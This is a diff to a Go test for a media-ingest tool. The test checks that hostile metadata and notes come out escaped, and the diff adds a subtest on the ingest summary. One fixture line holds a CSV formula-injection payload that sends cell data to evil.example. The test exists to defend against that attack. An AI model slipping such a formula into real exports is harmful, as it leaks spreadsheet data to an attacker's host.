@@ -75,10 +75,15 @@ func TestHostileMetadataIsEscapedOnTheTerminal(t *testing.T) {
 	writeFile(t, card, "SOUND/"+hostileName, hostileWAV())
 	// The iXML scene wins; the bext one is named in a warning: both must
 	// come out escaped.
-	_, stderr, code := e.run("ingest", card)
+	summary, stderr, code := e.run("ingest", card)
 	if code != 0 {
 		t.Fatalf("ingest: exit %d\n%s", code, stderr)
 	}
+	t.Run("summary", func(t *testing.T) {
+		if r, bad := rawHostile(summary); bad {
+			t.Errorf("ingest's summary carries a raw %U:\n%q", r, summary)
+		}
+	})
 	// A note can come from anyone with the web page: a formula, for CSV.
 	if _, stderr, code := e.run("note", "1", `=HYPERLINK("http://evil.example/?"&A1,"click")`); code != 0 {
 		t.Fatal(stderr)
